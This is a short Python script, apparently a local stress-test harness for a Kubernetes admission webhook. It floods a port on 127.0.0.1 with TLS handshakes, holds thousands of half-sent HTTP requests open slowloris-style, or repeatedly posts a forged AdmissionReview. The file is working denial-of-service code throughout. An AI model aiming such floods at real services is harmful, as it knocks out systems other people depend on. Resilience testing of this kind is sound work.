# SPDX-License-Identifier: Apache-2.0
"""Attacks a service on this machine until it is ended: attack.py handshakes|halves|forged PORT."""

import socket
import ssl
import sys

attack, port = sys.argv[1], int(sys.argv[2])
context = ssl._create_unverified_context()
half = b"POST /validate HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 7000
body = b'{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview"}'
forged = (
    b"POST /validate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
) + body
open_sockets = []
while True:
    try:
        plain = socket.create_connection(("127.0.0.1", port), timeout=10)
        if attack == "handshakes":
            context.wrap_socket(plain).close()
            continue
        secure = context.wrap_socket(plain)
        if attack == "forged":
            secure.sendall(forged)
            secure.recv(1000)
            secure.close()
        else:
            secure.sendall(half)
            open_sockets.append(secure)
            if len(open_sockets) > 3000:
                open_sockets.pop(0).close()
    except OSError:
        pass
